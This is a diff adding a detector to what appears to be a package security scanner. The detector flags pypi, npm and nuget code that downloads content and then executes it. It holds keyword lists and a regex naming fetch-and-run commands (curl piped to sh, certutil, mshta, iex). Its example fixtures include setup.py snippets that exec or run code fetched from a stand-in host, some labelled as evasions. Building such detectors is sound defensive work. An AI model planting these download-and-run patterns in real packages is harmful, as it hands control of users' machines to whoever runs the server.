@@ -1,0 +1,123 @@
+import { type Flow, flowsBetween } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import type { SourceFile } from "../model.ts";
+import { codeWith, matchInCode, sight } from "./_sight.ts";
+
+const RUNS = [
+  "subprocess",
+  "os.system",
+  "popen",
+  "startfile",
+  "child_process",
+  "exec(",
+  "eval(",
+  "execsync",
+  "spawn(",
+  "os.exec",
+  "compile(",
+] as const;
+const FETCHES = [
+  "urlopen",
+  "urlretrieve",
+  "requests",
+  "httpx",
+  "aiohttp",
+  "urllib",
+  "wget",
+  "curl",
+  "fetch(",
+  "https.get",
+  "http.get",
+  "axios",
+] as const;
+const COMMANDS = [
+  "irm ",
+  "iwr ",
+  "mshta",
+  "certutil",
+  "downloadstring",
+  "downloadfile",
+  "start-bitstransfer",
+  "invoke-webrequest",
+] as const;
+/** One command that fetches and runs what it fetched. */
+const PIPED =
+  /(?:curl|wget)\b[^|\n"']{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da)?sh\b|(?:curl|wget)\b[^|\n"']{0,300}(?:&&|;)[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:chmod[ \t]{1,4}[+\w]{1,6}|(?:ba|z)?sh|\.\/|nohup|python3?)[ \t]|(?:iex|invoke-expression)\b[^\n]{0,80}(?:downloadstring|irm|iwr|invoke-webrequest|invoke-restmethod)|(?:downloadstring|irm|iwr|invoke-webrequest|invoke-restmethod)\b[^\n]{0,300}\|[ \t]{0,4}(?:iex|invoke-expression)|(?:downloadfile|invoke-webrequest|iwr|start-bitstransfer|certutil)\b[^\n]{0,500}(?:start-process|invoke-expression|invoke-item|;[ \t]{0,4}start\b|&[ \t]{0,4}start\b)|mshta(?:\.exe)?[ \t]{1,4}https?:/i;
+
+export const downloadsAndRuns: Detector = {
+  id: "downloads-and-runs",
+  title: "Runs what it has downloaded",
+  severity: "critical",
+  ecosystems: ["pypi", "npm", "nuget"],
+  points: 6.5,
+  class: "threat",
+  group: "download-and-run",
+  why: `What comes back from a server is executed: as Python or JavaScript text, as a file that was written and then started, or by a
+shell command that pipes one into the other. Who controls the server decides what runs, long after the release was inspected.
+
+Installers of browsers, compilers and language models do this when the user asks for them. It counts fully where it happens at
+install or import, and in part in a function that somebody has to call.`,
+  literals: [...FETCHES, ...COMMANDS, ...RUNS],
+  *detect(tree) {
+    for (const file of codeWith(tree, [...FETCHES, ...COMMANDS])) {
+      const piped = matchInCode(file, PIPED);
+      if (piped !== undefined) {
+        yield sight(file, piped.index, `fetches and runs in one command: ${piped[0]}`, {
+          share: SHELLS.has(file.kind) ? 0.5 : shareOf(file),
+        });
+      }
+      if (!RUNS.some((word) => file.has(word))) continue;
+      for (const flow of flowsBetween(file, ["http"], ["start", "run-code"])) yield said(file, flow);
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "setup.py": "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n",
+        },
+      },
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py":
+            "import requests, subprocess\nr = requests.get('http://example.invalid/x')\nwith open('x.bin', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['x.bin'])\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: { "demo/a.py": "import requests, subprocess\nprint(requests.get(url).text)\nsubprocess.run(['ls'])\n" },
+      },
+      { ecosystem: "pypi", files: { "demo/a.py": "# curl http://example.invalid/x | sh\n" } },
+    ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "from os import system as s\ns('curl -s http://example.invalid/x | bash')\n" },
+      },
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py":
+            "import requests as r\ndef get():\n    return r.get('http://example.invalid/x').text\nrun = exec\nrun(get())\n",
+        },
+      },
+    ],
+  },
+};
+
+const SHELLS = new Set(["shell", "batch", "powershell"]);
+
+function said(file: SourceFile, { source, sink }: Flow) {
+  const how = sink.act === "start" ? "started" : "executed";
+  const says = `what ${source.what} fetches${source.text === "" ? "" : ` (${source.text.slice(0, 100)})`} is ${how} by ${sink.what}`;
+  const share = sink.phase === "call" || sink.phase === "none" ? (sink.act === "start" ? 0.6 : 0.7) : 1;
+  return sight(file, sink.offset, says, { phase: sink.phase, share });
+}
+
+function shareOf(file: SourceFile): number {
+  return file.phase === "call" || file.phase === "none" ? 0.6 : 1;
+}
